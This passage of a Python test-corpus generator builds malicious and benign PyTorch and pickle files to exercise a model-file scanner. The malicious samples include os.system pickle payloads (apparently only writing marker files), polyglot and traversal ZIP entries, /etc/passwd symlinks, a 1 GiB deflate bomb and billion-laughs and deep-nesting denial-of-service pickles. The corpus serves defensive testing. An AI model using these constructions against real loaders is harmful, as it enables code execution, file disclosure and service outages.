        "newobj_tensor_never_built": NewObj(G("torch", "Tensor")),
        "newobj_linear_never_built": NewObj(G("torch.nn.modules.linear", "Linear")),
        "newobj_tensor_as_storage": Call(
            func,
            (
                NewObj(G("torch", "Tensor")),
                0,
                (4,),
                (1,),
                False,
                Call(G("collections", "OrderedDict")),
            ),
        ),
    }
    for label, node in cases.items():
        c.add_zip("T4", f"t4_{label}", const(node), global_only=False)


def add_t5(c: Corpus) -> None:
    def pid(*fields: Any) -> Callable[[Marker], Any]:
        return lambda m: Call(
            G("torch._utils", "_rebuild_tensor_v2"),
            (Pid(fields), 0, (4,), (1,), False, Call(G("collections", "OrderedDict"))),
        )

    fs = G("torch", "FloatStorage")
    cases: dict[str, Callable[[Marker], Any]] = {
        "tag_module": pid("module", fs, "0", "cpu", 4),
        "tag_int": pid(7, fs, "0", "cpu", 4),
        "tag_storage_capitalised": pid("Storage", fs, "0", "cpu", 4),
        "pid_too_short": pid("storage", fs, "0"),
        "pid_is_a_string": lambda m: Pid("storage"),
        "pid_is_a_list": lambda m: Pid(["storage", fs, "0", "cpu", 4]),
        "key_dotdot": pid("storage", fs, "../x", "cpu", 4),
        "key_dotdot_data_pkl": pid("storage", fs, "../data.pkl", "cpu", 4),
        "key_absolute": pid("storage", fs, "/etc/passwd", "cpu", 4),
        "key_backslash": pid("storage", fs, "..\\..\\x", "cpu", 4),
        "key_nul": pid("storage", fs, "0\x00", "cpu", 4),
        "key_int": pid("storage", fs, 0, "cpu", 4),
        "key_missing_record": pid("storage", fs, "7", "cpu", 4),
        "storage_type_not_a_storage": pid("storage", G("torch", "Tensor"), "0", "cpu", 4),
    }
    for label, build in cases.items():
        c.add_zip("T5", f"t5_{label}", build, global_only=False)
    # A bytes tag instead of "storage" (what a protocol-3 pickle could carry).
    name = "t5_tag_is_bytes"
    asm = Asm(3)
    pkl = asm.dumps(
        with_weight(
            Call(
                G("torch._utils", "_rebuild_tensor_v2"),
                (
                    Pid((b"storage", fs, "0", "cpu", 4)),
                    0,
                    (4,),
                    (1,),
                    False,
                    Call(G("collections", "OrderedDict")),
                ),
            )
        )
    )
    c.add(Sample(name, "T5", torch_zip(pkl), ".pt", TORCH_ZIP))


@functools.lru_cache(maxsize=1)
def torchscript_archive() -> bytes:
    """A real TorchScript archive (torch.jit.script + torch.jit.save) of a tiny module."""
    import torch

    class Tiny(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.weight = torch.nn.Parameter(torch.arange(4.0))

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x * self.weight

    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # torch.jit is deprecated
        torch.jit.save(torch.jit.script(Tiny()), buffer)
    return buffer.getvalue()


def tar_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def add_t6(c: Corpus) -> None:
    system = G("os", "system")
    script = torchscript_archive()
    c.add(Sample("t6_torchscript_archive", "T6", script, ".pt", OTHER))
    c.add(Sample("t6_torchscript_archive_as_zip", "T6", script, ".zip", OTHER))
    # The same archive with its code/ records dropped: constants.pkl and the __torch__
    # globals in data.pkl are what remain to say "TorchScript".
    with_code_dropped = _rezip(script, lambda n: "/code/" not in n)
    c.add(Sample("t6_torchscript_without_code", "T6", with_code_dropped, ".pth", OTHER))
    # Legacy tar format (torch < 0.4): sys_info, pickle, storages, tensors.
    for variant in ("malicious", "benign"):
        name = f"t6_legacy_tar_{variant}"
        if variant == "malicious":
            main = Asm(2).dumps(Call(system, (c.marker(name).sh,)))
        else:
            main = pickle.dumps({"weight": 1}, protocol=2)
        members = {
            "sys_info": pickle.dumps(
                {"protocol_version": LEGACY_PROTOCOL, "little_endian": True}, 2
            ),
            "storages": pickle.dumps(0, 2),
            "tensors": pickle.dumps(0, 2),
            "pickle": main,
        }
        c.add(Sample(name, "T6", tar_bytes(members), ".pt", OTHER))
    # Stacked pickles: a complete benign pickle, then a malicious one.
    name = "t6_stacked_benign_then_malicious_pt"
    first = Asm(2).dumps(with_weight(1))
    second = Asm(2).dumps(Call(system, (c.marker(name).sh,)))
    c.add(Sample(name, "T6", first + second, ".pt", PICKLE, ("os.system",)))
    name = "t6_stacked_zip_pickle_then_malicious"
    pkl = Asm(2).dumps(with_weight(1)) + Asm(2).dumps(Call(system, (c.marker(name).sh,)))
    c.add(Sample(name, "T6", torch_zip(pkl), ".pt", TORCH_ZIP, ("os.system",)))
    # DCP .metadata: read with raw pickle.load by torch.distributed.checkpoint.
    name = "t6_dcp_metadata_malicious"
    asm = Asm(4)
    data = asm.dumps(Call(system, (c.marker(name).sh,)))
    c.add(Sample(name, "T6", data, ".metadata", PICKLE, asm.dangerous(), file_name=".metadata"))
    name = "t6_dcp_metadata_benign_object"
    asm = Asm(4)
    meta = Build(
        NewObj(G("torch.distributed.checkpoint.metadata", "Metadata")),
        {"state_dict_metadata": {}, "planner_data": None, "storage_data": None},
    )
    data = asm.dumps(meta)
    c.add(Sample(name, "T6", data, ".metadata", PICKLE, asm.dangerous(), file_name=".metadata"))


def _rezip(archive: bytes, keep: Callable[[str], bool]) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        entries = [Entry(i.filename, z.read(i)) for i in z.infolist() if keep(i.filename)]
    return build_zip(entries)


# ================================================================== Z1-Z8: the container


def add_z(c: Corpus) -> None:
    system = G("os", "system")

    def payload_pkl(name: str) -> bytes:
        return Asm(2).dumps(with_weight(Call(system, (c.marker(name).sh,))))

    benign_pkl = Asm(2).dumps(with_weight(1))

    def add(
        family: str, name: str, data: bytes, suffix: str = ".pt", globals_: tuple[str, ...] = ()
    ) -> None:
        c.add(Sample(name, family, data, suffix, TORCH_ZIP, globals_))

    def both(family: str, label: str, make: Callable[[bytes], bytes], suffix: str = ".pt") -> None:
        """The attack with a malicious and with a benign data.pkl."""
        name = f"{family.lower()}_{label}_malicious"
        add(family, name, make(payload_pkl(name)), suffix, ("os.system",))
        add(family, f"{family.lower()}_{label}_benign", make(benign_pkl), suffix)

    def entries_with(pkl: bytes, index: int = 0, **changes: Any) -> list[Entry]:
        entries = torch_entries(pkl)
        e = entries[index]
        entries[index] = Entry(**{**e.__dict__, **changes})
        return entries

    # Z1: data.pkl renamed.
    for new in ("data.txt", "data.pickle", "DATA.PKL", "data.pkl "):
        tag = new.replace(".", "_").replace(" ", "space").lower()
        name = f"z1_data_pkl_renamed_{tag}"
        add(
            "Z1",
            name,
            build_zip(torch_entries(payload_pkl(name), pkl_name=new)),
            globals_=("os.system",),
        )
    name = "z1_data_txt_odd_suffix"
    add(
        "Z1",
        name,
        build_zip(torch_entries(payload_pkl(name), pkl_name="data.txt")),
        ".dat",
        ("os.system",),
    )

    # Z2: flag bits and CRCs.
    def flagged(flag: int) -> Callable[[bytes], bytes]:
        return lambda pkl: build_zip(entries_with(pkl, flags=0x0808 | flag))

    for flag in (0x1, 0x20, 0x40):
        both("Z2", f"flag_0x{flag:02x}", flagged(flag))
    both("Z2", "flag_0x01_local_only", lambda pkl: build_zip(entries_with(pkl, local_flags=0x0809)))
    both("Z2", "bad_crc_data_pkl", lambda pkl: build_zip(entries_with(pkl, crc=0xDEADBEEF)))
    both("Z2", "bad_crc_storage", lambda pkl: build_zip(entries_with(pkl, index=4, crc=0x12345678)))
    add(
        "Z2",
        "z2_bit_flip_in_storage",
        build_zip(
            entries_with(benign_pkl, index=4, stored=b"\x00\x00\x81?" + FLOATS4[4:], data=FLOATS4)
        ),
    )

    # Z3: local header and central directory disagree on a name.
    both(
        "Z3",
        "local_name_differs",
        lambda pkl: build_zip(entries_with(pkl, local_name="archive/other.pkl")),
    )
    both(
        "Z3",
        "central_name_differs",
        lambda pkl: build_zip(
            entries_with(pkl, name="archive/data.pk1", local_name="archive/data.pkl")
        ),
    )
    both(
        "Z3",
        "local_name_case_differs",
        lambda pkl: build_zip(entries_with(pkl, local_name="archive/DATA.pkl")),
    )

    # Z4: duplicate names, a corrupt first entry.
    name = "z4_duplicate_data_pkl_benign_first"
    add(
        "Z4",
        name,
        build_zip([*torch_entries(benign_pkl), Entry("archive/data.pkl", payload_pkl(name))]),
        globals_=("os.system",),
    )
    name = "z4_duplicate_data_pkl_malicious_first"
    add(
        "Z4",
        name,
        build_zip([Entry("archive/data.pkl", payload_pkl(name)), *torch_entries(benign_pkl)]),
        globals_=("os.system",),
    )
    add(
        "Z4",
        "z4_duplicate_storage_record",
        build_zip([*torch_entries(benign_pkl), Entry("archive/data/0", FLOATS4[::-1])]),
    )

    def corrupt_first(sig: bytes) -> Callable[[int, bytes], bytes]:
        return lambda i, local: sig + local[4:] if i == 0 else local

    both(
        "Z4",
        "corrupt_first_local_signature",
        lambda pkl: build_zip(torch_entries(pkl), mangle_local=corrupt_first(b"PK\x03\x05")),
    )
    both(
        "Z4",
        "corrupt_first_local_name_length",
        lambda pkl: build_zip(
            torch_entries(pkl),
            mangle_local=lambda i, h: h[:26] + b"\xff\xff" + h[28:] if i == 0 else h,
        ),
    )
    both("Z4", "first_entry_method_99", lambda pkl: build_zip(entries_with(pkl, method=99)))

    # Z5: prefixes and polyglots.
    both(
        "Z5",
        "spanning_marker_prefix",
        lambda pkl: build_zip(torch_entries(pkl), prefix=b"PK\x07\x08"),
    )
    both(
        "Z5",
        "junk_prefix_offsets_unshifted",
        lambda pkl: build_zip(torch_entries(pkl), prefix=b"junk" * 16, shift_offsets=False),
    )
    both(
        "Z5",
        "junk_prefix_offsets_shifted",
        lambda pkl: build_zip(torch_entries(pkl), prefix=b"junk" * 16),
    )
    for tag, mk in (("pickle_prefix", True), ("pickle_trailer", False)):
        name = f"z5_polyglot_zip_{tag}"
        bad = Asm(2).dumps(Call(system, (c.marker(name).sh,)))
        data = (
            build_zip(torch_entries(benign_pkl), prefix=bad)
            if mk
            else build_zip(torch_entries(benign_pkl), trailer=bad)
        )
        add("Z5", name, data, globals_=("os.system",))
    name = "z5_polyglot_pickle_in_zip_comment"
    bad = Asm(2).dumps(Call(system, (c.marker(name).sh,)))
    add("Z5", name, build_zip(torch_entries(benign_pkl), comment=bad), globals_=("os.system",))

    # Z6: sizes that lie, ZIP64 lies, a zip bomb.
    both(
        "Z6",
        "declared_size_2gib",
        lambda pkl: build_zip(entries_with(pkl, index=4, size=2**31 - 1, csize=2**31 - 1)),
    )
    both("Z6", "declared_size_smaller", lambda pkl: build_zip(entries_with(pkl, size=4, csize=4)))
    both(
        "Z6",
        "central_count_lies",
        lambda pkl: build_zip(torch_entries(pkl), count=65535, count64=2**40),
    )
    both(
        "Z6",
        "central_offset_past_eof",
        lambda pkl: build_zip(torch_entries(pkl), cd_offset64=2**40, cd_offset=0xFFFFFFFF),
    )
    both("Z6", "central_size_lies", lambda pkl: build_zip(torch_entries(pkl), cd_size=2**31))
    both(
        "Z6",
        "zip64_locator_past_eof",
        lambda pkl: build_zip(torch_entries(pkl), locator_offset=2**50),
    )
    zip64_extra = struct.pack("<HHQQ", 1, 16, 2**62, 2**62)
    both(
        "Z6",
        "zip64_extra_size_2_pow_62",
        lambda pkl: build_zip(
            entries_with(pkl, index=4, size=0xFFFFFFFF, csize=0xFFFFFFFF, central_extra=zip64_extra)
        ),
    )
    bomb, bomb_size, bomb_crc = deflate_bomb()
    numel = bomb_size // 4
    bomb_pkl = Asm(2).dumps(with_weight(rebuild_v2(key="1", numel=numel, size=(numel,))))
    add(
        "Z6",
        "z6_deflate_bomb_storage_1gib",
        build_zip(
            [
                *torch_entries(bomb_pkl),
                Entry("archive/data/1", b"", stored=bomb, method=8, crc=bomb_crc, size=bomb_size),
            ]
        ),
    )
    add(
        "Z6",
        "z6_deflate_bomb_data_pkl",
        build_zip(
            [
                Entry("archive/data.pkl", b"", stored=bomb, method=8, crc=bomb_crc, size=bomb_size),
                *torch_entries(benign_pkl)[1:],
            ]
        ),
    )

    # Z7: hostile names and symlinks.
    for label, entry_name in {
        "dotdot_data_pkl": "archive/../../data.pkl",
        "dotdot_prefix": "../archive/data.pkl",
        "absolute_path": "/archive/data.pkl",
        "backslash": "archive\\data.pkl",
        "drive_letter": "C:/archive/data.pkl",
        "nul_in_name": "archive/data.pkl\x00.txt",
    }.items():
        name = f"z7_{label}"
        entries = torch_entries(payload_pkl(name))
        entries[0] = Entry(entry_name, entries[0].data)
        add("Z7", name, build_zip(entries), globals_=("os.system",))
    for label, index, target in (
        ("symlink_storage_to_etc_passwd", 4, b"/etc/passwd"),
        ("symlink_data_pkl_outside", 0, b"../../outside.pkl"),
    ):
        entries = torch_entries(benign_pkl)
        entries[index] = Entry(
            entries[index].name, target, external_attr=(0o120777 << 16), made_by=0x0314
        )
        add("Z7", f"z7_{label}", build_zip(entries))
    name = "z7_storage_key_dotdot_record"
    entries = torch_entries(Asm(2).dumps(with_weight(rebuild_v2(key="../../evil"))))
    entries.append(Entry("evil", FLOATS4))
    add("Z7", name, build_zip(entries))

    # Z8: compressed wrappers around a malicious torch file or pickle.
    def bare(name: str) -> bytes:
        return Asm(4).dumps(Call(system, (c.marker(name).sh,)))

    def legacy(name: str) -> bytes:
        main = Asm(2).dumps(with_weight(Call(system, (c.marker(name).sh,)), legacy=True))
        return legacy_file(main)

    wraps: dict[str, tuple[Callable[[str], bytes], Callable[[bytes], bytes], str]] = {
        "gzip_torch_zip": (lambda n: torch_zip(payload_pkl(n)), _gzip, ".pt"),
        "bz2_torch_zip": (lambda n: torch_zip(payload_pkl(n)), bz2.compress, ".pt"),
        "xz_torch_zip": (lambda n: torch_zip(payload_pkl(n)), lzma.compress, ".pth"),
        "sevenzip_torch_zip": (
            lambda n: torch_zip(payload_pkl(n)),
            lambda raw: seven_zip("archive.pt", raw),
            ".pt",
        ),
        "gzip_bare_pickle": (bare, _gzip, ".pt.gz"),
        "bz2_legacy": (legacy, bz2.compress, ".bin"),
    }
    for label, (inner, wrap, suffix) in wraps.items():
        name = f"z8_{label}"
        c.add(Sample(name, "Z8", wrap(inner(name)), suffix, OTHER))


@functools.lru_cache(maxsize=1)
def deflate_bomb() -> tuple[bytes, int, int]:
    """1 GiB of zeros deflated to about a megabyte: (stream, size, crc32)."""
    chunk = bytes(1 << 20)
    pieces = 1024
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    # A full flush makes the compressor forget its history, so every further megabyte of
    # zeros compresses to these same bytes: repeat them instead of compressing 1 GiB.
    if comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH) != block:
        raise AssertionError("zlib did not repeat its output after a full flush")
    stream = block * pieces + zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(pieces):
        crc = zlib.crc32(chunk, crc)
    return stream, len(chunk) * pieces, crc


def seven_zip(name: str, data: bytes) -> bytes:
    """A minimal 7z archive holding ``data`` under ``name`` with the Copy coder."""

    def number(n: int) -> bytes:
        for extra in range(8):
            if n < 1 << (7 * (extra + 1)):
                first = ((0xFF << (8 - extra)) & 0xFF) | (n >> (8 * extra))
                return bytes([first]) + (n & ((1 << (8 * extra)) - 1)).to_bytes(extra, "little")
        return b"\xff" + n.to_bytes(8, "little")

    utf16 = name.encode("utf-16-le") + b"\x00\x00"
    header = (
        b"\x01"  # Header
        + b"\x04"  # MainStreamsInfo
        + b"\x06"
        + number(0)
        + number(1)
        + b"\x09"
        + number(len(data))
        + b"\x00"  # PackInfo
        + b"\x07"
        + b"\x0b"
        + number(1)
        + b"\x00"  # UnPackInfo, Folder, 1 folder
        + number(1)
        + b"\x01\x00"  # 1 coder, id length 1, id 0x00 (Copy)
        + b"\x0c"
        + number(len(data))
        + b"\x00"  # CodersUnPackSize
        + b"\x08"
        + b"\x00"  # SubStreamsInfo (empty)
        + b"\x00"  # end of MainStreamsInfo
        + b"\x05"
        + number(1)  # FilesInfo, 1 file
        + b"\x11"
        + number(len(utf16) + 1)
        + b"\x00"
        + utf16  # Names
        + b"\x00"  # end of FilesInfo
        + b"\x00"  # end of Header
    )
    start = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    return (
        b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + data + header
    )


# ================================================================== D1-D4: denial of service


def add_d(c: Corpus) -> None:
    def raw(
        family: str, name: str, data: bytes, suffix: str = ".pkl", container: str = PICKLE
    ) -> None:
        c.add(Sample(name, family, data, suffix, container))

    big = 2**62
    # D1: huge memo indexes and lengths.
    raw("D1", "d1_long_binput_2_pow_31", b"\x80\x02Nr\x00\x00\x00\x80.")
    raw("D1", "d1_long_binput_2_pow_32_minus_1", b"\x80\x02Nr\xff\xff\xff\xff.")
    raw("D1", "d1_long_binget_2_pow_31", b"\x80\x02Nr\x00\x00\x00\x800j\x00\x00\x00\x80.")
    raw("D1", "d1_put_2_pow_63_p0", b"(lp9223372036854775808\n.")
    raw(
        "D1",
        "d1_put_get_10_pow_30_p0",
        b"(lp" + b"1" + b"0" * 30 + b"\n0g" + b"1" + b"0" * 30 + b"\n.",
    )
    raw("D1", "d1_binunicode8_2_pow_62", b"\x80\x04\x8d" + struct.pack("<Q", big) + b"abc.")
    raw("D1", "d1_binbytes8_2_pow_62", b"\x80\x04\x8e" + struct.pack("<Q", big) + b"abc.")
    raw("D1", "d1_bytearray8_2_pow_62", b"\x80\x05\x96" + struct.pack("<Q", big) + b"abc.")
    raw("D1", "d1_frame_2_pow_62", b"\x80\x04\x95" + struct.pack("<Q", big) + b"N.")
    raw("D1", "d1_frame_1_gib", b"\x80\x04\x95" + struct.pack("<Q", 2**30) + b"N.")
    raw("D1", "d1_binunicode_4_gib", b"\x80\x02X\xff\xff\xff\xffabc.")
    raw("D1", "d1_binbytes_4_gib", b"\x80\x03B\xff\xff\xff\xffabc.")
    raw("D1", "d1_binstring_2_gib", b"\x80\x02T\xff\xff\xff\x7fabc.")
    raw("D1", "d1_long4_2_gib", b"\x80\x02\x8b\xff\xff\xff\x7f\x01.")
    raw("D1", "d1_int_million_digits_p0", b"(I" + b"9" * 10**6 + b"\nt.")
    raw("D1", "d1_protocol_255", b"\x80\xffN.")
    pkl = Asm(2).dumps(with_weight(Raw(b"X\xff\xff\xff\xffabc")), stop=False)
    c.add(Sample("d1_zip_data_pkl_binunicode_4_gib", "D1", torch_zip(pkl), ".pt", TORCH_ZIP))
    main = b"\x80\x02\x8e" + struct.pack("<Q", big) + b"."
    c.add(Sample("d1_legacy_main_binbytes8_huge", "D1", legacy_file(main), ".pth", TORCH_LEGACY))

    # D2: 10**5 levels of nesting.
    depth = 10**5
    raw("D2", "d2_nested_lists_1e5", b"\x80\x02" + b"]" * depth + b"a" * (depth - 1) + b".")
    # {0: {0: {...}}}: every dict and key pushed first, then one SETITEM per level.
    raw(
        "D2",
        "d2_nested_dicts_1e5",
        b"\x80\x02}" + b"K\x00}" * (depth - 1) + b"s" * (depth - 1) + b".",
    )
    raw("D2", "d2_nested_tuple1_1e5", b"\x80\x02N" + b"\x85" * depth + b".")
    raw("D2", "d2_nested_marks_1e5_p0", b"(" * depth + b"N" + b"t" * depth + b".")
    raw("D2", "d2_marks_never_closed_1e6", b"\x80\x02" + b"(" * 10**6 + b"N.")
    pkl = Asm(2).dumps(with_weight(Raw(b"N" + b"\x85" * depth)))
    c.add(Sample("d2_zip_nested_tuples_1e5", "D2", torch_zip(pkl), ".pt", TORCH_ZIP))

    # D3: billion laughs through memo GETs. Each level is memoized and popped, so the
    # stack stays clean and only the memo holds the 2**30-node DAG.
    levels = 30

    def laughs(empty: bytes, level: Callable[[bytes], bytes]) -> bytes:
        out = bytearray(empty + b"q\x00" + POP)
        for i in range(1, levels + 1):
            out += level(b"h" + bytes([i - 1])) + b"q" + bytes([i]) + POP
        return bytes(out + b"h" + bytes([levels]))

    lists = laughs(EMPTY_LIST, lambda prev: b"](" + prev + prev + APPENDS)
    tuples = laughs(EMPTY_TUPLE, lambda prev: prev + prev + TUPLE2)
    dicts = laughs(
        EMPTY_DICT,
        lambda prev: b"}(X\x01\x00\x00\x00a" + prev + b"X\x01\x00\x00\x00b" + prev + SETITEMS,
    )
    raw("D3", "d3_billion_laughs_lists_30", b"\x80\x02" + lists + STOP)
    raw("D3", "d3_billion_laughs_tuples_30", b"\x80\x02" + tuples + STOP)
    raw("D3", "d3_billion_laughs_dicts_30", b"\x80\x02" + dicts + STOP)
    # The tuple as a dict key: hashing it walks 2**30 nodes.
    raw("D3", "d3_billion_laughs_tuple_as_dict_key", b"\x80\x02}" + tuples + b"K\x01s.")
    # Tensors at the leaves, in a torch zip: memo slots past 255 need LONG_BINPUT/GET.
    body = bytearray(b"\x80\x02}X\x01\x00\x00\x00x")
    body += Asm(2).emit(rebuild_v2()) + b"r" + struct.pack("<I", 1000) + POP
    for i in range(1, levels + 1):
        prev = b"j" + struct.pack("<I", 1000 + i - 1)
        body += b"](" + prev + prev + b"er" + struct.pack("<I", 1000 + i) + POP
    body += b"j" + struct.pack("<I", 1000 + levels) + b"s."
    c.add(
        Sample(
            "d3_zip_billion_laughs_tensor_leaves", "D3", torch_zip(bytes(body)), ".pt", TORCH_ZIP
        )
    )
    # Wide instead of deep: 19 million paths in 13 kB, behind a refused class so that
    # only salvage=True walks them.
    n = 4400
    whole_model = b"\x80\x02}(X\x05\x00\x00\x00modelc__main__\nNet\n)RX\x04\x00\x00\x00refs]("
    fan = whole_model + b"N" * n + b"eq\x010](" + b"h\x01" * n + b"eu."
    raw("D3", "d3_salvage_fan_out_4400_squared_whole_model", fan)
    # Three levels of 1000 references each, 10**9 leaves.
    fan = b"\x80\x02](" + b"N" * 1000 + b"eq\x010](" + b"h\x01" * 1000 + b"eq\x020]("
    raw("D3", "d3_memo_fan_out_1000_cubed", fan + b"h\x02" * 1000 + b"e.")

    # D4: no STOP.
    raw("D4", "d4_dict_without_stop", pickle.dumps({"a": 1}, protocol=2)[:-1])
    raw("D4", "d4_empty_file", b"", ".pt")
    raw("D4", "d4_proto_only", b"\x80\x02", ".pt")
    raw("D4", "d4_truncated_mid_opcode", b"\x80\x02X\x10\x00\x00\x00abc")
    raw("D4", "d4_mark_left_open_at_stop", b"\x80\x02(N.")
    raw("D4", "d4_stop_on_empty_stack", b"\x80\x02.")
    raw("D4", "d4_two_values_at_stop", b"\x80\x02NN.")
    pkl = Asm(2).dumps(with_weight(1), stop=False)
    c.add(Sample("d4_zip_data_pkl_without_stop", "D4", torch_zip(pkl), ".pt", TORCH_ZIP))
    main = Asm(2).dumps(with_weight(1, legacy=True), stop=False)
    c.add(Sample("d4_legacy_main_without_stop", "D4", legacy_file(main, ()), ".pth", TORCH_LEGACY))


# ================================================================== entry point


def corpus(marker_dir: Path) -> list[Sample]:
    """Every sample; payloads create ``marker_dir / sample.name`` if they ever run."""
    c = Corpus(Path(marker_dir))
    for add_family in (
        add_p1,
        add_p2,
        add_p3,
        add_p4,
        add_p5,
        add_p6,
        add_p7,
        add_p8,
        add_p9,
        add_p10,
        add_t1,
        add_t2,
        add_t3,
        add_t4,
        add_t5,
        add_t6,
        add_z,
        add_d,
    ):
        add_family(c)
    names = [s.name for s in c.samples]
    duplicates = {n for n in names if names.count(n) > 1}
    if duplicates:
        raise AssertionError(f"duplicate sample names: {sorted(duplicates)}")
    return c.samples


def _gzip(raw: bytes) -> bytes:
    return gzip.compress(raw, mtime=0)
